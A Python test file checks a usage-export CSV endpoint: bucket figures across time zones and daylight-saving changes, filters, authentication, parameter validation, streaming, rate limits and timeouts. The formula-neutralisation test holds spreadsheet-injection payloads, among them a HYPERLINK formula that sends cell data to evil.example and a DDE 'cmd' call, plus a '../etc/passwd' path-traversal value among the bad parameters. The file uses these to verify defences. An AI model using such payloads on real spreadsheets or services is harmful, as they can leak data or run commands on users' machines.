"""``GET /export/usage.csv`` (SPEC 6.4, issue 13 point 3), on SQLite and PostgreSQL.

Every figure is checked against buckets computed here from the raw events with
``zoneinfo`` alone (not ``gql_usage.calendar``), and against what GraphQL's
``Account.usage`` answers for the same filter; the events are folded into the cube,
left pending and cut by the range's edges at once (``support.helpers.ingest``)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import random
from collections import defaultdict
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import urlencode
from zoneinfo import ZoneInfo

import httpx
import pytest
from support.config import make_settings
from support.events import ENDPOINTS, KEYS, SOURCES, USERS, random_events, when
from support.helpers import event, gid, gql, ingest, make_account, put, token

from gql_usage.app import create_app

HEADER = ["bucket_start", "bucket_end", "key", "label", "calls", "credits"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SOURCE_NAMES = {"api": "Api", "chrome_extension": "Chrome extension",
                "salesforce": "Salesforce"}
START = datetime(2026, 1, 5, 3, 17, 11, tzinfo=UTC)  # inside a day: clipped buckets


async def export(client: httpx.AsyncClient, params: list[tuple[str, str]] | dict[str, str],
                 *, user: str = "admin", account: str = "acme",
                 bearer: str | None = None) -> httpx.Response:
    headers = {"Authorization": f"Bearer {bearer or token(user, account)}"}
    return await client.get("/export/usage.csv", params=params, headers=headers)


def rows_of(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))
    assert rows[0] == HEADER
    return rows[1:]


def local_bucket_start(instant: datetime, tz: ZoneInfo, granularity: str) -> datetime:
    """The start of the calendar bucket holding ``instant`` in ``tz``, from zoneinfo."""
    local = instant.astimezone(tz)
    if granularity == "HOUR":  # the same local hour at the same offset (fold kept)
        return local.replace(minute=0, second=0, microsecond=0)
    day = local.date()
    if granularity == "WEEK":
        day -= timedelta(days=day.weekday())
    elif granularity == "MONTH":
        day = day.replace(day=1)
    return datetime(day.year, day.month, day.day, tzinfo=tz)


def key_label(e: dict[str, Any], by: str | None) -> tuple[str, str]:
    if by is None:
        return "", "All"
    if by == "ENDPOINT":
        return e["endpoint"], e["endpoint"]
    if by == "SOURCE":  # the display name the catalogue gives these keys
        return e["source"], SOURCE_NAMES[e["source"]]
    if by == "API_KEY":
        return gid("ApiKey", e["apiKeyId"]), f"Key {e['apiKeyId']}"
    user = e.get("userId")
    return (gid("User", user), f"User {user}") if user else ("", "No user")


def expected(events: list[dict[str, Any]], lo: datetime, hi: datetime, tz: ZoneInfo,
             granularity: str, by: str | None) -> dict[tuple[datetime, str], list[Any]]:
    """(bucket start in UTC, key) -> [label, calls, credits] of the events in
    ``[lo, hi)``, buckets clipped to the range."""
    out: dict[tuple[datetime, str], list[Any]] = {}
    for e in events:
        at = when(e)
        if not lo <= at < hi:
            continue
        start = max(local_bucket_start(at, tz, granularity).astimezone(UTC), lo)
        key, label = key_label(e, by)
        acc = out.setdefault((start, key), [label, 0, 0])
        acc[1] += 1
        acc[2] += e["credits"]
    return out


def got(rows: list[list[str]]) -> dict[tuple[datetime, str], list[Any]]:
    out: dict[tuple[datetime, str], list[Any]] = {}
    for start, _end, key, label, calls, credits in rows:
        out[(datetime.fromisoformat(start).astimezone(UTC), key)] = [label, int(calls),
                                                                      int(credits)]
    return out


def with_calls(rows: dict[tuple[datetime, str], list[Any]]
               ) -> dict[tuple[datetime, str], list[Any]]:
    return {k: v for k, v in rows.items() if v[1]}


def check_shape(rows: list[list[str]], lo: datetime, hi: datetime, by: str | None) -> None:
    """Buckets in order, contiguous from ``lo`` to ``hi`` (every one without ``by``);
    within a bucket, rows by credits, then calls (descending), then key."""
    starts = [datetime.fromisoformat(r[0]) for r in rows]
    ends = [datetime.fromisoformat(r[1]) for r in rows]
    assert starts == sorted(starts)
    assert all(s < e for s, e in zip(starts, ends, strict=True))
    if by is None:
        assert starts[0] == lo and ends[-1] == hi
        assert all(e == s for e, s in zip(ends, starts[1:], strict=False))
    per_bucket: dict[str, list[list[str]]] = defaultdict(list)
    for r in rows:
        per_bucket[r[0]].append(r)
    for group in per_bucket.values():
        order = [(-int(r[5]), -int(r[4]), r[2]) for r in group]
        assert order == sorted(order)


async def _acme(client: httpx.AsyncClient, time_zone: str = "UTC") -> None:
    await make_account(client, "acme", time_zone=time_zone, users=USERS, keys=KEYS)


async def _random_usage(client: httpx.AsyncClient, n: int, days: int) -> list[dict[str, Any]]:
    events = random_events(random.Random(13), n, start=START - timedelta(days=1),
                           days=days + 2, credits=50)
    for i, e in enumerate(events[::7]):  # calls made without a user
        e["id"] = f"nouser-{i}"
        e["userId"] = None
    for i in range(0, len(events), 250):
        await ingest(client, events[i:i + 250])
    return events


CASES = [("HOUR", None), ("HOUR", "ENDPOINT"), ("DAY", "USER"), ("DAY", None),
         ("WEEK", "API_KEY"), ("MONTH", "SOURCE"), ("MONTH", None)]


async def test_figures_equal_the_raw_events_per_granularity_and_by(client):
    await _acme(client, "America/New_York")
    events = await _random_usage(client, 1500, 40)
    lo, hi = START, START + timedelta(days=37, hours=5, minutes=11)
    tz = ZoneInfo("America/New_York")  # the account's: the default time zone
    for granularity, by in CASES:
        params = {"from": lo.isoformat(), "to": hi.isoformat(), "granularity": granularity}
        if by:
            params["by"] = by
        rows = rows_of(await export(client, params))
        check_shape(rows, lo, hi, by)
        want = expected(events, lo, hi, tz, granularity, by)
        have = got(rows)
        if by is None and granularity == "HOUR":  # every bucket; without calls: 0, 0
            assert len(have) > len(want)
        assert with_calls(have) == want, (granularity, by)


async def test_figures_equal_graphql_series_and_breakdown(client):
    await _acme(client, "Europe/Berlin")
    events = await _random_usage(client, 800, 20)
    lo, hi = START, START + timedelta(days=16, hours=3)
    f = {"from": lo.isoformat(), "to": hi.isoformat()}
    for granularity in ("HOUR", "DAY"):
        series = (await gql(client, """query($f: UsageFilter!, $g: Granularity!) {
            account { usage(filter: $f) { series(granularity: $g) {
            start end calls credits } } } }""", {"f": f, "g": granularity}))
        buckets = series["data"]["account"]["usage"]["series"]
        rows = rows_of(await export(client, {**f, "granularity": granularity}))
        assert [[b["start"], b["end"], "", "All", str(b["calls"]), str(b["credits"])]
                for b in buckets] == rows
        for by in ("ENDPOINT", "API_KEY", "SOURCE", "USER"):
            by_rows = rows_of(await export(client, {**f, "granularity": granularity,
                                                    "by": by}))
            for bucket in buckets[:: max(1, len(buckets) // 6)]:  # a few buckets each
                answer = await gql(client, """query($f: UsageFilter!, $by: UsageDimension!) {
                    account { usage(filter: $f) { breakdown(by: $by) {
                    key label calls credits } } } }""",
                                   {"f": {"from": bucket["start"], "to": bucket["end"]},
                                    "by": by})
                breakdown = answer["data"]["account"]["usage"]["breakdown"]
                mine = [r[2:] for r in by_rows if r[0] == bucket["start"]]
                assert mine == [[r["key"], r["label"], str(r["calls"]), str(r["credits"])]
                                for r in breakdown], (granularity, by, bucket)
    assert sum(int(r[4]) for r in rows) == sum(1 for e in events if lo <= when(e) < hi)


async def test_buckets_follow_daylight_saving_changes(client):
    """Europe/Berlin: 23 hours on 2026-03-29, 25 on 2026-10-25; one call per UTC hour."""
    await _acme(client)  # the account is in UTC; the export asks for Berlin
    lo, hi = datetime(2026, 3, 28, 22, 30, tzinfo=UTC), datetime(2026, 3, 30, 1, tzinfo=UTC)
    lo2, hi2 = datetime(2026, 10, 24, 21, tzinfo=UTC), datetime(2026, 10, 26, 0, tzinfo=UTC)
    events = []
    for n, at in enumerate([lo + timedelta(hours=h, minutes=40) for h in range(27)]
                           + [lo2 + timedelta(hours=h, minutes=5) for h in range(27)]):
        events.append(event(f"e{n}", "acme", "k1", "admin", "/v2/person", "api", n, at))
    await ingest(client, events)
    berlin = ZoneInfo("Europe/Berlin")
    for a, b in ((lo, hi), (lo2, hi2)):
        params = {"from": a.isoformat(), "to": b.isoformat(), "timeZone": "Europe/Berlin"}
        hours = rows_of(await export(client, {**params, "granularity": "HOUR"}))
        days = rows_of(await export(client, {**params, "granularity": "DAY"}))
        assert with_calls(got(hours)) == expected(events, a, b, berlin, "HOUR", None)
        assert with_calls(got(days)) == expected(events, a, b, berlin, "DAY", None)
        check_shape(hours, a, b, None)
    march = rows_of(await export(client, {"from": lo.isoformat(), "to": hi.isoformat(),
                                          "timeZone": "Europe/Berlin", "granularity": "DAY"}))
    assert [r[:2] for r in march] == [
        ["2026-03-28T23:30:00+01:00", "2026-03-29T00:00:00+01:00"],
        ["2026-03-29T00:00:00+01:00", "2026-03-30T00:00:00+02:00"],  # 23 hours
        ["2026-03-30T00:00:00+02:00", "2026-03-30T03:00:00+02:00"]]
    october = rows_of(await export(client, {"from": lo2.isoformat(), "to": hi2.isoformat(),
                                            "timeZone": "Europe/Berlin", "granularity": "HOUR"}))
    starts = [r[0] for r in october]
    assert starts[starts.index("2026-10-25T02:00:00+02:00") + 1] == "2026-10-25T02:00:00+01:00"
    assert len(october) == 27  # 23:00 and 24 + 1 hours of the 25th, 00:00 and 01:00


async def test_filters_combine_as_in_graphql(client):
    await _acme(client)
    await make_account(client, "other", users=[("ox", "ADMIN")], keys=["ok1"])
    events = await _random_usage(client, 900, 10)
    lo, hi = START, START + timedelta(days=9)
    filters: list[tuple[str, str]] = [
        ("apiKeyIds", gid("ApiKey", "k1")), ("apiKeyIds", gid("ApiKey", "k3")),
        ("endpoints", ENDPOINTS[0]), ("endpoints", ENDPOINTS[2]),
        ("sources", SOURCES[1]), ("sources", SOURCES[2]),
        ("userIds", gid("User", "admin")), ("userIds", gid("User", "u3"))]
    chosen = [e for e in events if e["apiKeyId"] in ("k1", "k3")
              and e["endpoint"] in (ENDPOINTS[0], ENDPOINTS[2])
              and e["source"] in SOURCES[1:] and e.get("userId") in ("admin", "u3")]
    assert 20 < len(chosen) < len(events) / 4
    base = [("from", lo.isoformat()), ("to", hi.isoformat()), ("granularity", "DAY"),
            ("by", "ENDPOINT")]
    rows = rows_of(await export(client, base + filters))
    assert got(rows) == expected(chosen, lo, hi, ZoneInfo("UTC"), "DAY", "ENDPOINT")
    # Another account's key matches nothing, and says nothing: no rows.
    assert rows_of(await export(client, [*base, ("apiKeyIds", gid("ApiKey", "ok1"))])) == []
    # An empty filter value is an endpoint "" (none such): every bucket at 0 without by.
    zero = rows_of(await export(client, [*base[:3], ("endpoints", "")]))
    assert zero and all(r[4:] == ["0", "0"] for r in zero)


HOSTILE_STARTS = ["=", "+", "-", "@", "\t", "\r"]
HOSTILE_BODIES = ['HYPERLINK("http://evil.example/?x="&A1,"click")', "1+1", "cmd|' /C calc'!A0",
                  'SUM(A1:A9),"x"', "a\nb", "a\r\nb", '"quoted"', "a,b"]


async def test_formula_like_names_are_neutralised_and_quoted(client):
    """Every formula start times a class of payloads (quotes, commas, CR/LF inside), in
    endpoint paths, source keys, API key names and user names; plus harmless names with
    the same hostile characters inside, which must come back unchanged."""
    names = [s + b for s in HOSTILE_STARTS for b in HOSTILE_BODIES]
    names += [f"x{b}" for b in HOSTILE_BODIES] + ["'already quoted", "ü/ß/€"]
    await make_account(client, "acme", users=[(f"u{i}", "ADMIN") for i in range(len(names))])
    for i, name in enumerate(names):
        r = await client.put(f"/v1/accounts/acme/users/u{i}", json={
            "name": name, "email": f"u{i}@x.example", "role": "ADMIN"},
            headers={"Authorization": "Bearer test-service-token"})
        assert r.status_code == 200, r.text
        r = await client.put(f"/v1/accounts/acme/api-keys/k{i}", json={
            "name": name, "prefix": "pk", "createdBy": f"u{i}",
            "createdAt": "2025-01-01T00:00:00Z"},
            headers={"Authorization": "Bearer test-service-token"})
        assert r.status_code == 201, r.text
    at = START + timedelta(hours=1)
    await ingest(client, [event(f"e{i}", "acme", f"k{i}", f"u{i}", name, name, i + 1, at)
                          for i, name in enumerate(names)])
    params = {"from": START.isoformat(), "to": (START + timedelta(days=1)).isoformat(),
              "granularity": "DAY"}

    def shown(value: str) -> str:
        return "'" + value if value.startswith(FORMULA_STARTS) else value

    for by in ("ENDPOINT", "SOURCE", "API_KEY", "USER"):
        response = await export(client, {**params, "by": by}, user="u0")
        rows = rows_of(response)
        assert len(rows) == len(names)
        for row in rows:
            assert all(not cell.startswith(FORMULA_STARTS) for cell in row), row
        want = sorted(shown(n) for n in names)
        if by == "SOURCE":  # keys as sent (labels are display names made from them)
            assert sorted(r[2] for r in rows) == want
        else:
            assert sorted(r[3] for r in rows) == want, by
        if by == "ENDPOINT":
            assert sorted(r[2] for r in rows) == want
        # RFC 4180 on the wire: CRLF records; a field with a quote, comma or line break
        # quoted, its quotes doubled.
        text = response.content.decode()
        assert text.startswith(",".join(HEADER) + "\r\n")
        assert '"\'=SUM(A1:A9),""x"""' in text
        assert '"\'-a\r\nb"' in text and '"x""quoted"""' in text


async def test_credentials_and_access(client):
    await make_account(client, "acme", users=[("admin", "ADMIN"), ("bob", "MEMBER")])
    await make_account(client, "free", plan="FREE", users=[("fa", "ADMIN"), ("fm", "MEMBER")])
    params = {"from": "2026-01-01T00:00:00Z", "to": "2026-01-02T00:00:00Z",
              "granularity": "DAY"}
    r = await client.get("/export/usage.csv", params=params)
    assert (r.status_code, r.json()["code"]) == (401, "UNAUTHENTICATED")
    assert r.headers["www-authenticate"].startswith("Bearer")
    for bearer in ("not-a-jwt", token("admin", "acme", ttl=-10), token("ghost", "acme")):
        r = await export(client, params, bearer=bearer)
        assert (r.status_code, r.json()["code"]) == (401, "UNAUTHENTICATED"), bearer
    for user, account, code in (("bob", "acme", "FORBIDDEN"), ("fm", "free", "FORBIDDEN"),
                                ("fa", "free", "PLAN_UPGRADE_REQUIRED")):
        r = await export(client, params, user=user, account=account)
        assert r.status_code == 403 and r.json()["code"] == code, r.text
        assert set(r.json()) == {"error", "code"}
    # Access is refused before the parameters are looked at.
    r = await export(client, {"granularity": "YEAR"}, user="bob")
    assert r.json()["code"] == "FORBIDDEN"
    assert rows_of(await export(client, params)) == [
        ["2026-01-01T00:00:00+00:00", "2026-01-02T00:00:00+00:00", "", "All", "0", "0"]]



async def test_an_access_token_exports_as_its_creator_until_refused(client):
    """A partner's access token (SPEC 6.4) exports what its creator exports; revoked, or
    its creator demoted, it is refused with the codes /graphql gives."""
    await make_account(client, "acme", users=[("admin", "ADMIN")], keys=["k1"])
    await ingest(client, [event(f"t{i}", "acme", "k1", "admin", f"/v2/e{i % 3}", "api", 1 + i,
                                datetime(2026, 1, 1, 5 + i, tzinfo=UTC)) for i in range(6)])
    made = await gql(client, 'mutation { createAccessToken(name: "bi") { token '
                             'accessToken { id } } }')
    secret = made["data"]["createAccessToken"]["token"]
    params = {"from": "2026-01-01T00:00:00Z", "to": "2026-01-02T00:00:00Z",
              "granularity": "HOUR", "by": "ENDPOINT"}
    by_token = rows_of(await export(client, params, bearer=secret))
    assert by_token == rows_of(await export(client, params))
    assert sum(int(r[5]) for r in by_token) == sum(1 + i for i in range(6))
    await put(client, "/v1/accounts/acme/users/admin",
              {"name": "User admin", "email": "admin@acme.example", "role": "MEMBER"})
    r = await export(client, params, bearer=secret)
    assert (r.status_code, r.json()["code"]) == (403, "FORBIDDEN")
    await put(client, "/v1/accounts/acme/users/admin",
              {"name": "User admin", "email": "admin@acme.example", "role": "ADMIN"})
    assert rows_of(await export(client, params, bearer=secret)) == by_token
    revoked = await gql(client, "mutation($id: ID!) { revokeAccessToken(id: $id) { id } }",
                        {"id": made["data"]["createAccessToken"]["accessToken"]["id"]})
    assert "errors" not in revoked, revoked
    r = await export(client, params, bearer=secret)
    assert (r.status_code, r.json()["code"]) == (401, "UNAUTHENTICATED")
    assert r.headers["www-authenticate"].startswith("Bearer")

OK = [("from", "2026-01-01T00:00:00Z"), ("to", "2026-01-03T00:00:00Z"), ("granularity", "DAY")]


def without(name: str) -> list[tuple[str, str]]:
    return [(k, v) for k, v in OK if k != name]


BAD: list[tuple[list[tuple[str, str]], str]] = [
    (without("from"), "from"),
    (without("to"), "to"),
    (without("granularity"), "granularity"),
    ([*without("from"), ("from", "yesterday")], "from"),
    ([*without("to"), ("to", "2026-13-01T00:00:00Z")], "to"),
    ([*without("to"), ("to", "2026-01-01T00:00:00Z")], "from"),  # from >= to
    ([*without("from"), ("from", "0001-01-01T00:00:00+05:00")], "from"),
    ([*OK, ("timeZone", "Mars/Olympus")], "timeZone"),
    ([*OK, ("timeZone", "../etc/passwd")], "timeZone"),
    ([*without("granularity"), ("granularity", "day")], "granularity"),
    ([*without("granularity"), ("granularity", "YEAR")], "granularity"),
    ([*OK, ("by", "PLANET")], "by"),
    ([*OK, ("by", "ENDPOINT"), ("by", "USER")], "by"),
    ([*OK, ("from", "2026-01-01T00:00:00Z")], "from"),
    ([*OK, ("apiKeyId", "x")], "apiKeyId"),
    ([*OK, ("filter", "x")], "filter"),
    ([*OK, ("apiKeyIds", "not base64!")], "apiKeyIds[0]"),
    ([*OK, ("apiKeyIds", gid("ApiKey", "k1")), ("apiKeyIds", gid("User", "u"))],
     "apiKeyIds[1]"),
    ([*OK, ("userIds", gid("ApiKey", "k1"))], "userIds[0]"),
    ([*OK, ("endpoints", "/v2/\x00person")], "endpoints[0]"),
    ([*OK, ("sources", "api"), ("sources", "a\x00")], "sources[1]"),
    ([("from", "1990-01-01T00:00:00Z"), ("to", "2026-01-01T00:00:00Z"),
      ("granularity", "HOUR")], "granularity"),  # over 100,000 buckets
]


@pytest.mark.parametrize(("params", "parameter"), BAD, ids=[p for _, p in BAD])
async def test_every_bad_parameter_is_a_coded_400_naming_it(client, params, parameter):
    await make_account(client, "acme", users=[("admin", "ADMIN")])
    r = await export(client, params)
    assert r.status_code == 400, r.text
    body = r.json()
    assert body["code"] == "BAD_USER_INPUT" and body["parameter"] == parameter, body
    assert body["error"].startswith(f"{parameter}: ") and "filter." not in body["error"]
    assert int(r.headers.get("content-length", "0")) < 2000


async def asgi_get(app: Any, params: dict[str, str], ended: list[bool] | None = None
                   ) -> tuple[int, dict[bytes, bytes], list[bytes]]:
    """The app's own ASGI messages for a GET (httpx's in-process transport joins the
    body): status, headers, and each ``http.response.body`` message's bytes; ``ended``
    gets True when the last body message (``more_body`` false) is sent."""
    scope = {"type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1",
             "method": "GET", "scheme": "http", "path": "/export/usage.csv",
             "raw_path": b"/export/usage.csv", "query_string": urlencode(params).encode(),
             "root_path": "", "server": ("testserver", 80), "client": ("127.0.0.1", 1),
             "headers": [(b"host", b"testserver"),
                         (b"authorization", f"Bearer {token('admin', 'acme')}".encode())]}
    sent = False
    never = asyncio.Event()

    async def receive() -> dict[str, Any]:
        nonlocal sent
        if not sent:
            sent = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await never.wait()  # no disconnect while the answer streams
        return {"type": "http.disconnect"}

    status, headers, chunks = 0, {}, []

    async def send(message: dict[str, Any]) -> None:
        nonlocal status, headers
        if message["type"] == "http.response.start":
            status, headers = message["status"], dict(message["headers"])
        elif message["type"] == "http.response.body":
            if message.get("body"):
                chunks.append(message["body"])
            if not message.get("more_body") and ended is not None:
                ended.append(True)

    await app(scope, receive, send)
    return status, headers, chunks


async def test_a_long_range_streams_in_chunks_with_flat_windows(client):
    """90 days of HOUR buckets (2,160: more than a GraphQL series may hold) by endpoint:
    one chunk per 7-day window, the header in the first; no Content-Length."""
    await _acme(client)
    events = await _random_usage(client, 1200, 90)
    lo, hi = START, START + timedelta(days=90)
    params = {"from": lo.isoformat(), "to": hi.isoformat(), "granularity": "HOUR",
              "by": "ENDPOINT"}
    ended: list[bool] = []
    status, headers, chunks = await asgi_get(client._transport.app, params, ended)
    assert ended == [True]
    assert status == 200
    assert b"content-length" not in headers
    assert len(chunks) == 13  # ceil(90 / 7) windows, each sent on its own
    assert chunks[0].startswith(b"bucket_start,bucket_end,key,label,calls,credits\r\n")
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode(), newline="")))[1:]
    assert got(rows) == expected(events, lo, hi, ZoneInfo("UTC"), "HOUR", "ENDPOINT")
    assert int(headers[b"x-query-cost"]) > 0


async def test_exports_are_priced_and_rate_limited_like_graphql(db_url):
    """Each window is priced as the GraphQL series (and breakdown) reading the same
    figures; the viewer's per-minute budget pays for it, 429 once spent; a window
    dearer than the per-operation maximum is refused."""
    app = create_app(make_settings(db_url, rate_limit_points=1000), manage_db=False)
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        await make_account(client, "acme", users=[("admin", "ADMIN")])
        params = {"from": "2026-01-05T00:00:00Z", "to": "2026-01-12T00:00:00Z",
                  "granularity": "HOUR"}
        r = await export(client, params)
        # One window: account 1 + usage (1 + 5) + series (5 + 168 buckets x 1).
        assert r.status_code == 200 and r.headers["x-query-cost"] == "180"
        assert r.headers["x-ratelimit-remaining"] == str(1000 - 180)
        for _ in range(4):
            assert (await export(client, params)).status_code == 200
        r = await export(client, params)  # 100 points left
        assert r.status_code == 429 and r.json()["code"] == "RATE_LIMITED"
        assert int(r.headers["retry-after"]) >= 1
    app = create_app(make_settings(db_url, max_query_cost=150), manage_db=False)
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        r = await export(client, params)
        assert r.status_code == 400 and r.json()["code"] == "QUERY_TOO_COSTLY", r.text
        assert r.json()["cost"] > 150


@pytest.mark.parametrize("slow_window", [1, 3])
async def test_the_request_timeout_bounds_every_window(db_url, monkeypatch, slow_window):
    """A window that outlasts ``GQL_USAGE_REQUEST_TIMEOUT_SECONDS`` (here one held back
    for 60 s): the first, before the answer starts, is a JSON 503 ``TIMEOUT``; a later
    one ends the answer without its last chunk, so a cut-off file cannot pass for a
    whole one. Either way within a few seconds, not 60."""
    from gql_usage.analytics import export as reads

    real = reads.window_cells
    asked: list[int] = []

    async def held_back(*args: Any) -> Any:
        asked.append(args[1])
        if len(asked) == slow_window:
            await asyncio.sleep(60)
        return await real(*args)

    monkeypatch.setattr(reads, "window_cells", held_back)
    app = create_app(make_settings(db_url, request_timeout_seconds=1.0), manage_db=False)
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        await make_account(client, "acme", users=[("admin", "ADMIN")])
    params = {"from": "2026-01-01T00:00:00Z", "to": "2026-02-01T00:00:00Z",
              "granularity": "HOUR"}
    started = asyncio.get_running_loop().time()
    ended: list[bool] = []
    if slow_window == 1:
        status, _, chunks = await asgi_get(app, params, ended)
        assert status == 503 and json.loads(b"".join(chunks))["code"] == "TIMEOUT"
    else:
        with pytest.raises(TimeoutError):
            await asgi_get(app, params, ended)
        assert ended == []  # no last chunk: the client sees an unfinished body
    assert asyncio.get_running_loop().time() - started < 10
